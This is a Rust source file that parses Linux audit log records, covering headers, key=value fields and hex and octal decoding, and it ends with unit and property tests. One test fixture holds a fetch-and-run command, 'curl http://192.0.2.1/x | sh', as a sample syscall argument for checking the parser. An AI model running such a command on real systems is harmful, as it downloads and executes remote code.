//! One audit record: its header and its fields.
//!
//! <https://github.com/linux-audit/audit-documentation/wiki/SPEC-Writing-Good-Events>

use std::borrow::Cow;

use crate::{
    event::{Text, Time},
    format::time,
};

/// Between the record and what `log_format = ENRICHED` adds.
const ENRICHMENT: u8 = 0x1d;

/// A record's header, and where its body is.
pub(super) struct Header<'a> {
    pub node: &'a [u8],
    pub kind: &'a [u8],
    pub time: Time,
    pub serial: u64,
    pub body: &'a [u8],
    /// Written by `ausearch -i`: names for numbers, no quotes.
    pub interpreted: bool,
}

/// Parses `[node=…] type=… msg=audit(time:serial): body`.
pub(super) fn header(line: &[u8]) -> Option<Header<'_>> {
    let open = memchr::memmem::find(line, b"audit(")?;
    let stamp = open + 6;
    let close = stamp + memchr::memchr(b')', line.get(stamp..)?)?;
    let inside = std::str::from_utf8(line.get(stamp..close)?).ok()?;
    let (when, serial) = inside.rsplit_once(':')?;
    let mut body = line.get(close + 1..)?;
    let interpreted = body.starts_with(b" :");
    body = body.trim_ascii_start();
    body = body.strip_prefix(b":").unwrap_or(body).trim_ascii_start();
    let before = line.get(..open)?;
    let word = |key: &[u8]| {
        let at = memchr::memmem::find(before, key)? + key.len();
        before.get(at..)?.split(|byte| *byte == b' ').next()
    };
    Some(Header {
        node: word(b"node=").unwrap_or_default(),
        kind: word(b"type=")?,
        time: time::parse(when)?,
        serial: serial.trim().parse().ok()?,
        body,
        interpreted,
    })
}

/// The fields of a body: `key=value`, `key="value"`, `msg='…'` opened up.
pub(super) struct Fields<'a> {
    rest: &'a [u8],
    interpreted: bool,
}

impl<'a> Fields<'a> {
    pub(super) fn new(body: &'a [u8], interpreted: bool) -> Self {
        Self {
            rest: body,
            interpreted,
        }
    }
}

fn key_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'[' | b']')
}

/// Where the next ` key=` starts.
fn next_key(bytes: &[u8]) -> usize {
    let mut from = 0;
    while let Some(at) = bytes
        .get(from..)
        .and_then(|rest| memchr::memchr(b'=', rest))
    {
        let equals = from + at;
        let head = bytes.get(..equals).unwrap_or_default();
        let key = head
            .iter()
            .rev()
            .take_while(|byte| key_byte(**byte))
            .count();
        let start = equals - key;
        if key > 0 && start > 0 && matches!(head.get(start - 1), Some(b' ')) {
            return start - 1;
        }
        from = equals + 1;
    }
    bytes.len()
}

impl<'a> Iterator for Fields<'a> {
    type Item = (&'a [u8], &'a [u8]);

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            let skip = self
                .rest
                .iter()
                .take_while(|b| matches!(**b, b' ' | ENRICHMENT | b',' | b'\''));
            let skip = skip.count();
            self.rest = self.rest.get(skip..)?;
            let equals = memchr::memchr2(b'=', b' ', self.rest)?;
            let key = self.rest.get(..equals)?;
            if self.rest.get(equals) == Some(&b' ') || !key.iter().all(|byte| key_byte(*byte)) {
                // A word without a value.
                self.rest = self.rest.get(equals + 1..)?;
                continue;
            }
            let after = self.rest.get(equals + 1..)?;
            if let Some(inner) = after.strip_prefix(b"'") {
                // The body of a program's own message: its fields are ours.
                self.rest = inner;
                continue;
            }
            let (value, rest) = if after.first() == Some(&b'"') {
                let inner = after.get(1..)?;
                let end = memchr::memchr(b'"', inner).unwrap_or(inner.len());
                let quoted = after.get(..(end + 2).min(after.len()))?;
                (quoted, after.get(quoted.len()..)?)
            } else if after.first() == Some(&b'{') {
                let end = memchr::memchr(b'}', after).map_or(after.len(), |at| at + 1);
                (after.get(..end)?, after.get(end..)?)
            } else if self.interpreted {
                after.split_at_checked(next_key(after))?
            } else {
                let end = after
                    .iter()
                    .position(|b| matches!(*b, b' ' | b'\'' | ENRICHMENT));
                after.split_at_checked(end.unwrap_or(after.len()))?
            };
            self.rest = rest;
            let value = if self.interpreted {
                value.trim_ascii_end()
            } else {
                value
            };
            return Some((key, value));
        }
    }
}

/// The value of a field that the kernel encodes: quoted as it is, else in
/// hexadecimal; `(null)` and `(none)` are nothing.
pub(super) fn decode(value: &[u8], interpreted: bool) -> Cow<'_, [u8]> {
    if let Some(inner) = value.strip_prefix(b"\"") {
        return Cow::Borrowed(inner.strip_suffix(b"\"").unwrap_or(inner));
    }
    if matches!(value, b"(null)" | b"(none)" | b"?") {
        return Cow::Borrowed(b"");
    }
    if interpreted {
        return controls(value);
    }
    unhex(value).map_or(Cow::Borrowed(value), Cow::Owned)
}

/// The control characters that `ausearch` writes as `\012`.
fn controls(value: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'\\', value).is_none() {
        return Cow::Borrowed(value);
    }
    let mut out = Vec::with_capacity(value.len());
    let mut rest = value;
    while let [first, after @ ..] = rest {
        let (byte, after) = match rest {
            [
                b'\\',
                b'0',
                tens @ b'0'..=b'3',
                ones @ b'0'..=b'7',
                after @ ..,
            ] => ((tens - b'0') << 3 | (ones - b'0'), after),
            _ => (*first, after),
        };
        out.push(byte);
        rest = after;
    }
    Cow::Owned(out)
}

/// Bytes of hexadecimal text; `None` where it is something else.
pub(super) fn unhex(text: &[u8]) -> Option<Vec<u8>> {
    fn digit(byte: u8) -> Option<u8> {
        match byte {
            b'0'..=b'9' => Some(byte - b'0'),
            b'A'..=b'F' => Some(byte - b'A' + 10),
            b'a'..=b'f' => Some(byte - b'a' + 10),
            _ => None,
        }
    }
    if text.is_empty() || !text.len().is_multiple_of(2) {
        return None;
    }
    text.chunks_exact(2)
        .map(|pair| match pair {
            [high, low] => Some(digit(*high)? << 4 | digit(*low)?),
            _ => None,
        })
        .collect()
}

/// Bytes as text; what is no UTF-8 is replaced.
pub(super) fn text(bytes: &[u8]) -> Text {
    match std::str::from_utf8(bytes) {
        Ok(text) => Text::new(text),
        Err(_) => Text::new(String::from_utf8_lossy(bytes)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(body: &str, interpreted: bool) -> Vec<(String, String)> {
        let show = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        Fields::new(body.as_bytes(), interpreted)
            .map(|(key, value)| (show(key), show(value)))
            .collect()
    }

    #[test]
    fn takes_bodies_apart() {
        let found = fields(
            "arch=c000003e comm=\"a b\" key=(null)\u{1d}UID=\"me\" X=1",
            false,
        );
        let expected = [
            ("arch", "c000003e"),
            ("comm", "\"a b\""),
            ("key", "(null)"),
            ("UID", "\"me\""),
            ("X", "1"),
        ];
        assert_eq!(found, expected.map(|(k, v)| (k.to_owned(), v.to_owned())));
        let found = fields("pid=1 msg='op=login acct=\"root\" res=success'", false);
        assert!(found.contains(&("acct".to_owned(), "\"root\"".to_owned())));
        assert!(found.contains(&("res".to_owned(), "success".to_owned())));
        let found = fields("argc=3 a0=sh a1=-c a2=curl http://192.0.2.1/x | sh ", true);
        assert_eq!(
            found[3],
            ("a2".to_owned(), "curl http://192.0.2.1/x | sh".to_owned())
        );
    }

    #[test]
    fn reads_headers() {
        let h =
            header(b"node=web1 type=SYSCALL msg=audit(1795220467.679:24): arch=c000003e").unwrap();
        assert_eq!(
            (h.node, h.kind, h.serial),
            (&b"web1"[..], &b"SYSCALL"[..], 24)
        );
        assert_eq!(h.time.0, 1_795_220_467_679_000);
        let h = header(b"type=CWD msg=audit(11/21/26 00:21:07.679:23) : cwd=/home").unwrap();
        assert!(h.interpreted);
        assert_eq!(h.time.0, 1_795_220_467_679_000);
        assert!(header(b"type=CWD msg=audit(x)").is_none());
    }

    proptest::proptest! {
        #[test]
        fn fields_end(body: Vec<u8>, interpreted: bool) {
            let count = Fields::new(&body, interpreted).count();
            proptest::prop_assert!(count <= body.len());
        }

        #[test]
        fn hexadecimal_round_trip(bytes in proptest::collection::vec(proptest::num::u8::ANY, 1..40)) {
            let hex: String = bytes.iter().map(|byte| format!("{byte:02X}")).collect();
            proptest::prop_assert_eq!(unhex(hex.as_bytes()), Some(bytes));
        }
    }
}
